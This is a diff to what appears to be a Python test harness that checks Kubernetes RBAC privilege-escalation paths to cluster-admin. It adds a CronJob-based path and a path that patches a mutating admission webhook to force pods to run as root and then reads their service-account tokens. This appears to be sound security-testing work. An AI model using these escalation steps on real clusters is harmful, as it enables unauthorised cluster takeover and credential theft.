@@ -14,7 +14,7 @@ def run_as_root(u, plural, group, kind, spec):
     u.do("POST", u.here(plural, group), o)
     u.undo.append(u.here(plural, group) + "/x")
     pods = lambda: [p for p in u.server.ask("GET", u.here("pods"))["items"] if p["spec"]["serviceAccountName"] == "root"]
-    u.server.wait(f"{kind} makes its pod", pods)
+    u.server.wait(f"{kind} makes its pod", pods, 100)      # a CronJob may take its minute
     u.must_reach(u.token_in(pods()[0]))
     for p in pods():
         u.undo.append(u.here("pods/" + p["metadata"]["name"]))
@@ -47,6 +47,9 @@ def controller(name, plural, group, kind, more):
         spec = more | {"template": template}
         if kind == "ReplicationController":
             spec["selector"] = labels
+        elif kind == "CronJob":
+            template["spec"]["restartPolicy"] = "Never"
+            spec = {"schedule": "* * * * *", "jobTemplate": {"spec": {"template": template}}}
         elif kind != "Job":
             spec["selector"] = {"matchLabels": labels}
         return Made("cluster-admin", "{u} -> create " + plural + " in {n} -> " + ROOT, lambda: run_as_root(u, plural, group, kind, spec))
@@ -227,6 +230,24 @@ def mutating_webhooks(u):
     return Made("cluster-admin", "{u} -> create mutatingwebhookconfigurations -> " + ROOT, walk)
 
 
+def change_a_mutating_webhook(u):
+    u.account()
+    path = f"/apis/{ADMISSION}/v1/mutatingwebhookconfigurations"
+    harmless = Webhook(u.server.dir, lambda request: {})
+    u.make(path, harmless.configuration(u.name, u.namespace, "pods"))
+    u.may("get", "", "pods")
+    u.may("patch", ADMISSION, "mutatingwebhookconfigurations", names=u.name, key=True)
+    u.granted()
+
+    def walk():
+        patch = {"patchType": "JSONPatch", "patch": base64.b64encode(json.dumps(as_root()).encode()).decode()}
+        mine = Webhook(u.server.dir, lambda request: patch)
+        u.do("PATCH", f"{path}/{u.name}", {"webhooks": mine.configuration(u.name, u.namespace, "pods")["webhooks"]})
+        until_rewritten(u)
+
+    return Made("cluster-admin", "{u} -> patch mutatingwebhookconfigurations -> " + ROOT, walk)
+
+
 def mutating_policies(u):
     u.account()
     u.may("create", ADMISSION, "mutatingadmissionpolicies")
@@ -275,4 +296,5 @@ def validating_webhooks(u):
 WORLDS = [create_pods, controller("create_deployments", "deployments", "apps", "Deployment", {}), controller("create_daemonsets", "daemonsets", "apps", "DaemonSet", {}),
           controller("create_statefulsets", "statefulsets", "apps", "StatefulSet", {"serviceName": "x"}), controller("create_replicasets", "replicasets", "apps", "ReplicaSet", {}),
           controller("create_replicationcontrollers", "replicationcontrollers", "", "ReplicationController", {}), controller("create_jobs", "jobs", "batch", "Job", {}),
-          patch_deployments, mount_a_secret, take_a_node, label_the_namespace, a_host_path_through_a_volume, mutating_webhooks, mutating_policies, validating_webhooks]
+          controller("create_cronjobs", "cronjobs", "batch", "CronJob", {}),
+          patch_deployments, mount_a_secret, take_a_node, label_the_namespace, a_host_path_through_a_volume, mutating_webhooks, change_a_mutating_webhook, mutating_policies, validating_webhooks]
